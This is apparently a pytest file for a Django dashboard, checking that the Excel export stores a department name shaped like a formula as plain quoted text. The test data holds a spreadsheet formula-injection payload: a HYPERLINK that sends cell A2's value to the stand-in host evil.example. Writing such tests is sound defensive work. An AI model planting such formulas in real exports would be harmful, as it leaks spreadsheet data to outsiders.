"""The dashboard's Excel export writes names and explanations as text, never as formulas."""

import io
import re
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from accounts import demo
from metrics.models import Section
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击核对")'


def test_a_department_named_like_a_formula_is_exported_as_text(client, demo_data):
    department = factories.DepartmentFactory(code="zz", name=FORMULA, short_name="-测")
    factories.IndicatorFactory(
        code="zz_1", department=department, section=Section.objects.get(code="biz")
    )
    client.login(username="leader", password=demo.DEMO_PASSWORD)
    response = client.get(reverse("dashboard:export") + "?period=2026")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    sheet = load_workbook(io.BytesIO(response.content))["部门填报进度"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == FORMULA)
    assert row[0].data_type == "s" and row[0].quotePrefix
    assert [c.data_type for c in row[1:7]] == ["n"] * 6  # the counts stay numbers
